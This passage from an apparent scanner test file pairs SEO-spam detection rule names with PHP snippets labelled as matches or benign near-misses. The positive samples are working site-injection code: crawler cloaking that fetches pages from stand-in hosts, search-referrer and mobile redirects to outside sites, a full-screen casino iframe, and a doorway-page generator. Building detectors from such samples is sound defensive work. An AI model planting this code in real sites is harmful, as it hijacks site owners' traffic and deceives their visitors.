    ),  # b4_bot_flag_fgc plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$bot = false;\nforeach (array('Googlebot', 'bingbot', 'Yahoo! Slurp', 'YandexBot') as $s) { if (stripos($_SERVER['HTTP_USER_AGENT'], $s) !== false) $bot = true; }\nif ($bot) {\n    $ctx = @file_get_contents('http://cache.example.top/page/' . md5($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']) . '?h=' . $_SERVER['HTTP_HOST']);\n    if ($ctx) { echo $ctx; exit; }\n}\n?>"
        ),
        True,
    ),  # b4_bot_flag_fgc padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$bot = false;\nforeach (array('Googlebot', 'bingbot', 'Yahoo! Slurp', 'YandexBot') as $s) { if (stripos($_SERVER['HTTP_USER_AGENT'], $s) !== false) $bot = true; }\nif ($bot) {\n    $ctx = @file_get_contents('http://cache.example.top/page/' . md5($_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']) . '?h=' . $_SERVER['HTTP_HOST']);\n    if ($ctx) { echo $ctx; exit; }\n}\n?>"
        ),
        True,
    ),  # b4_bot_flag_fgc embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$O0 = $_SERVER; $O1 = 'HTTP_USER_AGENT';\nif (preg_match('/Googlebot|bingbot/i', $O0[$O1])) {\n    $O2 = 'http://g.example.top/i.php?d=' . $O0['HTTP_HOST'] . '&u=' . $O0['REQUEST_URI'];\n    $O3 = @file_get_contents($O2);\n    echo $O3;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_obfuscated_names plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$O0 = $_SERVER; $O1 = 'HTTP_USER_AGENT';\nif (preg_match('/Googlebot|bingbot/i', $O0[$O1])) {\n    $O2 = 'http://g.example.top/i.php?d=' . $O0['HTTP_HOST'] . '&u=' . $O0['REQUEST_URI'];\n    $O3 = @file_get_contents($O2);\n    echo $O3;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_obfuscated_names padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$O0 = $_SERVER; $O1 = 'HTTP_USER_AGENT';\nif (preg_match('/Googlebot|bingbot/i', $O0[$O1])) {\n    $O2 = 'http://g.example.top/i.php?d=' . $O0['HTTP_HOST'] . '&u=' . $O0['REQUEST_URI'];\n    $O3 = @file_get_contents($O2);\n    echo $O3;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_obfuscated_names embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$s = array('google.', 'bing.', 'yahoo.', 'duckduckgo.');\nforeach ($s as $e) {\n    if (isset($_SERVER['HTTP_REFERER']) && strpos($_SERVER['HTTP_REFERER'], $e) !== false) {\n        header('Location: http://deals.example.top/r.php?d=' . $_SERVER['HTTP_HOST'], true, 302);\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # b4_header_302_ref plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\n$s = array('google.', 'bing.', 'yahoo.', 'duckduckgo.');\nforeach ($s as $e) {\n    if (isset($_SERVER['HTTP_REFERER']) && strpos($_SERVER['HTTP_REFERER'], $e) !== false) {\n        header('Location: http://deals.example.top/r.php?d=' . $_SERVER['HTTP_HOST'], true, 302);\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # b4_header_302_ref padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\n$s = array('google.', 'bing.', 'yahoo.', 'duckduckgo.');\nforeach ($s as $e) {\n    if (isset($_SERVER['HTTP_REFERER']) && strpos($_SERVER['HTTP_REFERER'], $e) !== false) {\n        header('Location: http://deals.example.top/r.php?d=' . $_SERVER['HTTP_HOST'], true, 302);\n        exit;\n    }\n}\n?>"
        ),
        True,
    ),  # b4_header_302_ref embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            '<?php\n$base = "http://doors.example.top/";\n$url = $base . "?site=" . urlencode($_SERVER[\'HTTP_HOST\']) . "&path=" . urlencode($_SERVER[\'REQUEST_URI\']) . "&ref=" . urlencode(@$_SERVER[\'HTTP_REFERER\']);\n$html = file_get_contents($url);\necho $html;\n?>'
        ),
        True,
    ),  # b4_proxy_getallurl plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            '<?php\n$base = "http://doors.example.top/";\n$url = $base . "?site=" . urlencode($_SERVER[\'HTTP_HOST\']) . "&path=" . urlencode($_SERVER[\'REQUEST_URI\']) . "&ref=" . urlencode(@$_SERVER[\'HTTP_REFERER\']);\n$html = file_get_contents($url);\necho $html;\n?>'
        ),
        True,
    ),  # b4_proxy_getallurl padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            '<?php\n$base = "http://doors.example.top/";\n$url = $base . "?site=" . urlencode($_SERVER[\'HTTP_HOST\']) . "&path=" . urlencode($_SERVER[\'REQUEST_URI\']) . "&ref=" . urlencode(@$_SERVER[\'HTTP_REFERER\']);\n$html = file_get_contents($url);\necho $html;\n?>'
        ),
        True,
    ),  # b4_proxy_getallurl embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$spiders = '/(Googlebot|Baiduspider|Sogou web spider|360Spider|YisouSpider|bingbot)/i';\nif (preg_match($spiders, $_SERVER['HTTP_USER_AGENT'])) {\n    $tpl = file_get_contents('http://cn-tpl.example.top/t.html');\n    $kws = file('http://cn-tpl.example.top/k.txt');\n    echo str_replace('{kw}', $kws[array_rand($kws)], $tpl);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_spider_preg_var plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$spiders = '/(Googlebot|Baiduspider|Sogou web spider|360Spider|YisouSpider|bingbot)/i';\nif (preg_match($spiders, $_SERVER['HTTP_USER_AGENT'])) {\n    $tpl = file_get_contents('http://cn-tpl.example.top/t.html');\n    $kws = file('http://cn-tpl.example.top/k.txt');\n    echo str_replace('{kw}', $kws[array_rand($kws)], $tpl);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_spider_preg_var padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$spiders = '/(Googlebot|Baiduspider|Sogou web spider|360Spider|YisouSpider|bingbot)/i';\nif (preg_match($spiders, $_SERVER['HTTP_USER_AGENT'])) {\n    $tpl = file_get_contents('http://cn-tpl.example.top/t.html');\n    $kws = file('http://cn-tpl.example.top/k.txt');\n    echo str_replace('{kw}', $kws[array_rand($kws)], $tpl);\n    exit;\n}\n?>"
        ),
        True,
    ),  # b4_spider_preg_var embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$UA = $_SERVER['HTTP_USER_AGENT'];\nif (false !== stripos($UA, 'Googlebot') || false !== stripos($UA, 'Bingbot')) {\n    $out = file_get_contents(sprintf('http://%s/door.php?h=%s&u=%s', 'node7.example.top', $_SERVER['HTTP_HOST'], urlencode($_SERVER['REQUEST_URI'])));\n    echo $out;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_yoda_strpos plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$UA = $_SERVER['HTTP_USER_AGENT'];\nif (false !== stripos($UA, 'Googlebot') || false !== stripos($UA, 'Bingbot')) {\n    $out = file_get_contents(sprintf('http://%s/door.php?h=%s&u=%s', 'node7.example.top', $_SERVER['HTTP_HOST'], urlencode($_SERVER['REQUEST_URI'])));\n    echo $out;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_yoda_strpos padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$UA = $_SERVER['HTTP_USER_AGENT'];\nif (false !== stripos($UA, 'Googlebot') || false !== stripos($UA, 'Bingbot')) {\n    $out = file_get_contents(sprintf('http://%s/door.php?h=%s&u=%s', 'node7.example.top', $_SERVER['HTTP_HOST'], urlencode($_SERVER['REQUEST_URI'])));\n    echo $out;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_yoda_strpos embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $fh = fopen('http://s.example.top/p?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']), 'r');\n    $page = stream_get_contents($fh);\n    fclose($fh);\n    echo $page;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_fopen_stream plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $fh = fopen('http://s.example.top/p?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']), 'r');\n    $page = stream_get_contents($fh);\n    fclose($fh);\n    echo $page;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_fopen_stream padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\nif (preg_match('/googlebot|bingbot|yandex/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $fh = fopen('http://s.example.top/p?d=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode($_SERVER['REQUEST_URI']), 'r');\n    $page = stream_get_contents($fh);\n    fclose($fh);\n    echo $page;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_fopen_stream embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nfunction theme_assets_preload() {\n    if (is_admin()) return;\n    $a = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n    if (stripos($a, 'googlebot') === false && stripos($a, 'bingbot') === false) return;\n    echo wp_remote_retrieve_body(wp_remote_get('http://assets-cdn.example.top/x/?d=' . urlencode(home_url()) . '&p=' . urlencode($_SERVER['REQUEST_URI'])));\n    exit;\n}\nadd_action('template_redirect', 'theme_assets_preload', 0);\n?>"
        ),
        True,
    ),  # b5_wp_body_nested plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\nfunction theme_assets_preload() {\n    if (is_admin()) return;\n    $a = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n    if (stripos($a, 'googlebot') === false && stripos($a, 'bingbot') === false) return;\n    echo wp_remote_retrieve_body(wp_remote_get('http://assets-cdn.example.top/x/?d=' . urlencode(home_url()) . '&p=' . urlencode($_SERVER['REQUEST_URI'])));\n    exit;\n}\nadd_action('template_redirect', 'theme_assets_preload', 0);\n?>"
        ),
        True,
    ),  # b5_wp_body_nested padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nfunction theme_assets_preload() {\n    if (is_admin()) return;\n    $a = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n    if (stripos($a, 'googlebot') === false && stripos($a, 'bingbot') === false) return;\n    echo wp_remote_retrieve_body(wp_remote_get('http://assets-cdn.example.top/x/?d=' . urlencode(home_url()) . '&p=' . urlencode($_SERVER['REQUEST_URI'])));\n    exit;\n}\nadd_action('template_redirect', 'theme_assets_preload', 0);\n?>"
        ),
        True,
    ),  # b5_wp_body_nested embedded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$list = file('keys.txt');\nforeach ($list as $key) {\n    $key = trim($key);\n    $html = str_ireplace('%KEY%', $key, $template);\n    $fp = fopen(preg_replace('/\\s+/', '-', $key) . '.htm', 'w');\n    fwrite($fp, $html);\n    fclose($fp);\n}\n$sm = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        True,
    ),  # b5_doorway_fwrite plain
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        padded(
            "<?php\n$list = file('keys.txt');\nforeach ($list as $key) {\n    $key = trim($key);\n    $html = str_ireplace('%KEY%', $key, $template);\n    $fp = fopen(preg_replace('/\\s+/', '-', $key) . '.htm', 'w');\n    fwrite($fp, $html);\n    fclose($fp);\n}\n$sm = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        True,
    ),  # b5_doorway_fwrite padded
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        embedded(
            "<?php\n$list = file('keys.txt');\nforeach ($list as $key) {\n    $key = trim($key);\n    $html = str_ireplace('%KEY%', $key, $template);\n    $fp = fopen(preg_replace('/\\s+/', '-', $key) . '.htm', 'w');\n    fwrite($fp, $html);\n    fclose($fp);\n}\n$sm = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n?>"
        ),
        True,
    ),  # b5_doorway_fwrite embedded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nadd_action('init', function () {\n    if (wp_is_mobile() && empty($_COOKIE['wpm_seen']) && !is_user_logged_in()) {\n        setcookie('wpm_seen', '1', time() + DAY_IN_SECONDS, '/');\n        wp_redirect('https://mob-gift.example.top/?s=' . $_SERVER['HTTP_HOST']);\n        exit;\n    }\n});\n?>"
        ),
        True,
    ),  # b5_wp_is_mobile plain
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        padded(
            "<?php\nadd_action('init', function () {\n    if (wp_is_mobile() && empty($_COOKIE['wpm_seen']) && !is_user_logged_in()) {\n        setcookie('wpm_seen', '1', time() + DAY_IN_SECONDS, '/');\n        wp_redirect('https://mob-gift.example.top/?s=' . $_SERVER['HTTP_HOST']);\n        exit;\n    }\n});\n?>"
        ),
        True,
    ),  # b5_wp_is_mobile padded
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        embedded(
            "<?php\nadd_action('init', function () {\n    if (wp_is_mobile() && empty($_COOKIE['wpm_seen']) && !is_user_logged_in()) {\n        setcookie('wpm_seen', '1', time() + DAY_IN_SECONDS, '/');\n        wp_redirect('https://mob-gift.example.top/?s=' . $_SERVER['HTTP_HOST']);\n        exit;\n    }\n});\n?>"
        ),
        True,
    ),  # b5_wp_is_mobile embedded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$ch = curl_init('http://tpl.example.top/render.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\ncurl_setopt($ch, CURLOPT_USERAGENT, $_SERVER['HTTP_USER_AGENT']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$res = curl_exec($ch);\nif ($res !== false && strlen($res) > 50) { echo $res; exit; }\n?>"
        ),
        True,
    ),  # b5_ua_forward_proxy plain
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        padded(
            "<?php\n$ch = curl_init('http://tpl.example.top/render.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\ncurl_setopt($ch, CURLOPT_USERAGENT, $_SERVER['HTTP_USER_AGENT']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$res = curl_exec($ch);\nif ($res !== false && strlen($res) > 50) { echo $res; exit; }\n?>"
        ),
        True,
    ),  # b5_ua_forward_proxy padded
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        embedded(
            "<?php\n$ch = curl_init('http://tpl.example.top/render.php?host=' . $_SERVER['HTTP_HOST'] . '&uri=' . urlencode($_SERVER['REQUEST_URI']));\ncurl_setopt($ch, CURLOPT_USERAGENT, $_SERVER['HTTP_USER_AGENT']);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$res = curl_exec($ch);\nif ($res !== false && strlen($res) > 50) { echo $res; exit; }\n?>"
        ),
        True,
    ),  # b5_ua_forward_proxy embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$sp = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($sp, 'baiduspider') !== false || strpos($sp, 'sogou') !== false || strpos($sp, '360spider') !== false) {\n    $s = file_get_contents('http://cn.example.top/index.php?host=' . $_SERVER['HTTP_HOST'] . '&url=' . $_SERVER['REQUEST_URI']);\n    echo $s;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_baidu_cn plain
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        padded(
            "<?php\n$sp = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($sp, 'baiduspider') !== false || strpos($sp, 'sogou') !== false || strpos($sp, '360spider') !== false) {\n    $s = file_get_contents('http://cn.example.top/index.php?host=' . $_SERVER['HTTP_HOST'] . '&url=' . $_SERVER['REQUEST_URI']);\n    echo $s;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_baidu_cn padded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$sp = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($sp, 'baiduspider') !== false || strpos($sp, 'sogou') !== false || strpos($sp, '360spider') !== false) {\n    $s = file_get_contents('http://cn.example.top/index.php?host=' . $_SERVER['HTTP_HOST'] . '&url=' . $_SERVER['REQUEST_URI']);\n    echo $s;\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_baidu_cn embedded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (preg_match('/(google|bing|yahoo)\\./', $_SERVER['HTTP_REFERER'])) {\n    echo '<iframe src=\"http://casino.example.top/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_referer_iframe plain
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        padded(
            "<?php\nif (preg_match('/(google|bing|yahoo)\\./', $_SERVER['HTTP_REFERER'])) {\n    echo '<iframe src=\"http://casino.example.top/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_referer_iframe padded
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        embedded(
            "<?php\nif (preg_match('/(google|bing|yahoo)\\./', $_SERVER['HTTP_REFERER'])) {\n    echo '<iframe src=\"http://casino.example.top/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>';\n    exit;\n}\n?>"
        ),
        True,
    ),  # b5_referer_iframe embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\nif (preg_match('/googlebot|bingbot|spider|crawler/i', $ua)) {\n    return;\n}\n$ch = curl_init('https://analytics.example.com/collect');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('p' => $_SERVER['REQUEST_URI'])));\ncurl_exec($ch);\n?>"
        ),
        False,
    ),  # near-miss analytics_skip_bots embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) {\n    $file = WP_CONTENT_DIR . '/cache/' . md5($_SERVER['REQUEST_URI']) . '.html';\n    if (is_file($file)) { readfile($file); exit; }\n}\n?>"
        ),
        False,
    ),  # near-miss prerender_like_cache embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$rss = file_get_contents('https://news.example.org/feed.xml');\n$xml = simplexml_load_string($rss);\nforeach ($xml->channel->item as $item) { echo '<li>' . esc_html($item->title) . '</li>'; }\n?>"
        ),
        False,
    ),  # near-miss feed_fetch embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
